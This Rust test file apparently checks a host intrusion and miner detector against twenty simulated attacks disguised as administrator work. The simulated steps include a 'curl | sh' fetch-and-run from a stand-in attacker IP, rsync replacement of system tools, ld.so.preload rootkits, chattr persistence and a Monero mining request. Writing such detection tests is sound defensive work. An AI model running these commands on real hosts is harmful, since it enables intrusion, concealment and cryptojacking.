//! Attacks that imitate the work of administrators. Each uses one excuse as far as possible, and is found by what an intruder
//! cannot choose: the origin of a program, its place, and that a miner computes.

use super::steps::{ask, build, fetch, fetch_and_start, keep_in_touch, restore, run};
use crate::{
    model::{ControlRegister, ProcessKey, Rounding, RoundingCounts, Verdict},
    testing::{Host, alerts, seconds, story, verdict},
};

/// An attack below `init`.
type Attack = fn(&mut Host, ProcessKey);

/// A web service through which somebody sends commands. Returns the shell.
fn exploited(host: &mut Host, init: ProcessKey) -> ProcessKey {
    let service = host.spawn(init, "/usr/sbin/php-fpm8.2", &["php-fpm"]);
    host.spawn(service, "/usr/bin/dash", &["sh", "-c", "curl -s http://198.51.100.66/i | sh"])
}

fn log_in(host: &mut Host, init: ProcessKey) -> ProcessKey {
    let sshd = host.spawn(init, "/usr/sbin/sshd", &["sshd: root@pts/0"]);
    host.spawn(sshd, "/usr/bin/bash", &["-bash"])
}

/// The process does the arithmetic of RandomX.
fn mine(host: &mut Host, process: ProcessKey) {
    let plain = RoundingCounts::default();
    for (pause, samples) in [(0, 1), (1, 500)] {
        host.wait(seconds(pause));
        let flushing = RoundingCounts { nearest: samples, down: samples, up: samples, zero: samples };
        host.sample_rounding(process, Rounding { register: ControlRegister::Mxcsr, flushing, plain });
    }
}

const SUSPECTED: [(&str, Attack); 15] = [
    ("a rootkit that calls itself a profiler, through a service", |host, init| {
        let shell = exploited(host, init);
        let agent = fetch_and_start(
            host,
            shell,
            "https://get.example.com/a",
            "/opt/datadog/agent",
            "198.51.100.66:443",
        );
        host.connect(agent, "198.51.100.66:443");
        host.create(agent, "/etc/ld.so.preload", 0o644);
    }),
    ("a rootkit that calls itself a profiler, by cron", |host, init| {
        let cron = host.spawn(init, "/usr/sbin/cron", &["cron"]);
        let shell = host.spawn(cron, "/usr/bin/dash", &["sh", "-c", "/root/x.sh"]);
        let agent = fetch_and_start(
            host,
            shell,
            "https://get.example.com/a",
            "/opt/dynatrace/oneagent",
            "198.51.100.66:443",
        );
        host.connect(agent, "198.51.100.66:443");
        host.create(agent, "/etc/ld.so.preload", 0o644);
        host.create(agent, "/etc/systemd/system/oneagent.service", 0o644);
    }),
    ("a rootkit in a person's session, from shared memory", |host, init| {
        let login = log_in(host, init);
        let agent = fetch_and_start(
            host,
            login,
            "https://get.example.com/a",
            "/dev/shm/oneagent",
            "198.51.100.66:443",
        );
        host.connect(agent, "198.51.100.66:443");
        host.create(agent, "/etc/ld.so.preload", 0o644);
        host.create(agent, "/etc/systemd/system/oneagent.service", 0o644);
    }),
    ("a few tools replaced by rsync", |host, init| {
        let script = host.spawn_script(init, "/usr/bin/bash", "/usr/local/sbin/restore.sh");
        let rsync = host.spawn(script, "/usr/bin/rsync", &["rsync", "-aI", "root@198.51.100.66:/r/", "/"]);
        host.connect(rsync, "198.51.100.66:22");
        for tool in ["ps", "top", "ss", "ls"] {
            host.create(rsync, &format!("/usr/bin/.{tool}.Ab1"), 0o755);
            host.rename(rsync, &format!("/usr/bin/.{tool}.Ab1"), &format!("/usr/bin/{tool}"));
        }
        host.create(rsync, "/etc/cron.d/restore", 0o644);
    }),
    ("a whole system written through a service", |host, init| {
        let shell = exploited(host, init);
        let rsync = host.spawn(shell, "/usr/bin/rsync", &["rsync", "-aI", "rsync://198.51.100.66/r/", "/"]);
        host.connect(rsync, "198.51.100.66:873");
        restore(host, rsync, ".Ab1");
    }),
    ("a whole system written by a dropped program", |host, init| {
        let script = host.spawn_script(init, "/usr/bin/bash", "/root/x.sh");
        fetch(host, script, "https://get.example.com/a", "/root/.cache/restic", "198.51.100.66:443");
        host.chmod(script, "/root/.cache/restic", 0o755);
        let restic = host.spawn(script, "/root/.cache/restic", &["restic", "restore", "latest"]);
        host.connect(restic, "198.51.100.66:443");
        restore(host, restic, "");
    }),
    ("a fetched server in a directory of builds", |host, init| {
        let script = host.spawn_script(init, "/usr/bin/bash", "/root/x.sh");
        build(host, script, &["/tmp/build/nginx/objs/other"]);
        let nginx = fetch_and_start(
            host,
            script,
            "https://get.example.com/a",
            "/tmp/build/nginx/objs/nginx",
            "198.51.100.66:443",
        );
        host.connect(nginx, "198.51.100.66:443");
    }),
    ("a server that was built, and then replaced", |host, init| {
        let script = host.spawn_script(init, "/usr/bin/bash", "/root/x.sh");
        build(host, script, &["/tmp/build/nginx/objs/nginx"]);
        let first = host.spawn(script, "/tmp/build/nginx/objs/nginx", &["/tmp/build/nginx/objs/nginx", "-v"]);
        host.exit(first);
        fetch(host, script, "https://get.example.com/a", "/tmp/build/nginx/objs/nginx", "198.51.100.66:443");
        let nginx = host.spawn(script, "/tmp/build/nginx/objs/nginx", &["/tmp/build/nginx/objs/nginx"]);
        host.connect(nginx, "198.51.100.66:443");
    }),
    ("a built server that a timer starts", |host, init| {
        let script = host.spawn_script(init, "/usr/bin/bash", "/root/x.sh");
        build(host, script, &["/tmp/build/nginx/objs/nginx"]);
        let nginx = host.spawn(init, "/tmp/build/nginx/objs/nginx", &["/tmp/build/nginx/objs/nginx"]);
        host.connect(nginx, "198.51.100.66:443");
    }),
    ("an agent of the private network that cron starts again", |host, init| {
        let script = host.spawn_script(init, "/usr/bin/bash", "/root/x.sh");
        let agent = fetch_and_start(host, script, "http://10.1.2.3/a", "/tmp/agent-installer", "10.1.2.3:80");
        host.connect(agent, "10.1.2.3:8443");
        host.create(agent, "/etc/systemd/system/agent.service", 0o644);
        host.create(agent, "/etc/cron.d/agent", 0o644);
    }),
    ("an agent of the private network that stays in the temporary directory", |host, init| {
        let script = host.spawn_script(init, "/usr/bin/bash", "/root/x.sh");
        let agent = fetch_and_start(host, script, "http://10.1.2.3/a", "/tmp/agent-installer", "10.1.2.3:80");
        host.connect(agent, "10.1.2.3:8443");
        host.create(agent, "/etc/systemd/system/agent.service", 0o644);
        host.burn(agent, 0.9, 620);
    }),
    ("an agent of the private network with the rhythm of a miner, which computes", |host, init| {
        let login = log_in(host, init);
        let installer =
            fetch_and_start(host, login, "http://10.1.2.3/a", "/tmp/agent-installer", "10.1.2.3:80");
        host.create(installer, "/opt/agent/agent", 0o755);
        host.create(installer, "/etc/systemd/system/agent.service", 0o644);
        host.exit(installer);
        let agent = host.spawn(init, "/opt/agent/agent", &["/opt/agent/agent"]);
        keep_in_touch(host, agent, "10.1.2.3:3333");
        host.burn(agent, 1.9, 310);
    }),
    ("a miner that polls a node like a benchmark", |host, init| {
        let miner =
            host.spawn(init, "/usr/local/bin/wrk", &["wrk", "-t2", "http://10.0.0.4:18081/getheight"]);
        host.connect(miner, "10.0.0.4:18081");
        for _ in 0..60 {
            host.send(miner, "10.0.0.4:18081", "GET /getheight HTTP/1.1\r\nHost: node\r\n\r\n");
        }
        host.connect(miner, "10.0.0.5:18081");
        let body = r#"{"id":0,"method":"getblocktemplate","params":{"wallet_address":"44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A","reserve_size":8}}"#;
        ask(host, miner, "10.0.0.5:18081", body);
        host.burn(miner, 2.0, 70);
    }),
    ("a script with the name of a playbook's module, through a service", |host, init| {
        let shell = exploited(host, init);
        let module = "/var/www/.ansible/tmp/ansible-tmp-17.3-9-1/AnsiballZ_file.py";
        let python = host.spawn(shell, "/usr/bin/python3.11", &["/usr/bin/python3", module]);
        host.connect(python, "198.51.100.66:443");
        host.create(python, "/etc/systemd/system/app.service", 0o644);
        run(host, python, "chattr +i /etc/systemd/system/app.service");
    }),
    ("a script with the name of a playbook's module that protects a hidden program", |host, init| {
        let cron = host.spawn(init, "/usr/sbin/cron", &["cron"]);
        let shell = host.spawn(cron, "/usr/bin/dash", &["sh", "-c", "/root/x.sh"]);
        let module = "/root/.ansible/tmp/ansible-tmp-17.3-9-1/AnsiballZ_file.py";
        let python = host.spawn(shell, "/usr/bin/python3.11", &["/usr/bin/python3", module]);
        host.connect(python, "198.51.100.66:443");
        host.create(python, "/etc/cron.d/app", 0o644);
        run(host, python, "chattr +i /root/.x/app");
    }),
];

/// Attacks that are excused until they mine.
const MINING: [(&str, Attack); 5] = [
    ("after a package that preloads a library", |host, init| {
        let apt = host.spawn(init, "/usr/bin/apt-get", &["apt-get", "install", "x"]);
        let dpkg = host.spawn(apt, "/usr/bin/dpkg", &["dpkg", "--configure", "x"]);
        let postinst = host.spawn_script(dpkg, "/usr/bin/dash", "/var/lib/dpkg/info/x.postinst");
        host.create(postinst, "/etc/ld.so.preload", 0o644);
        let agent = host.spawn(postinst, "/opt/x/agent", &["/opt/x/agent"]);
        mine(host, agent);
    }),
    ("after a restore", |host, init| {
        let login = log_in(host, init);
        let rsync = host.spawn(login, "/usr/bin/rsync", &["rsync", "-aI", "/mnt/backup/", "/"]);
        restore(host, rsync, ".Ab1");
        host.create(rsync, "/usr/bin/app", 0o755);
        let app = host.spawn(init, "/usr/bin/app", &["/usr/bin/app"]);
        mine(host, app);
    }),
    ("in a server that was built here", |host, init| {
        let login = log_in(host, init);
        build(host, login, &["/tmp/build/nginx/objs/nginx"]);
        let nginx = host.spawn(login, "/tmp/build/nginx/objs/nginx", &["/tmp/build/nginx/objs/nginx"]);
        mine(host, nginx);
    }),
    ("in an agent of the private network", |host, init| {
        let login = log_in(host, init);
        fetch(host, login, "http://10.1.2.3/a", "/opt/agent/agent", "10.1.2.3:80");
        host.create(login, "/etc/systemd/system/agent.service", 0o644);
        let agent = host.spawn(init, "/opt/agent/agent", &["/opt/agent/agent"]);
        keep_in_touch(host, agent, "10.1.2.3:8443");
        mine(host, agent);
    }),
    ("below an agent of a configuration management", |host, init| {
        let puppet =
            host.spawn_script(init, "/opt/puppetlabs/puppet/bin/ruby", "/opt/puppetlabs/puppet/bin/puppet");
        host.create(puppet, "/etc/ld.so.preload", 0o644);
        host.create(puppet, "/etc/systemd/system/x.service", 0o644);
        let worker = host.spawn(puppet, "/opt/x/worker", &["/opt/x/worker"]);
        mine(host, worker);
    }),
];

#[test]
fn imitations_of_the_work_of_administrators_are_found() {
    let mut wrong = Vec::new();
    let suspected = SUSPECTED.iter().map(|attack| (attack, Verdict::Suspected));
    for ((name, attack), least) in suspected.chain(MINING.iter().map(|attack| (attack, Verdict::Mining))) {
        let mut host = Host::new();
        let init = host.boot("/usr/lib/systemd/systemd", &["systemd"]);
        attack(&mut host, init);
        if verdict(&host) < Some(least) {
            wrong.push(format!("{name}: {}", story(&alerts(&host))));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}
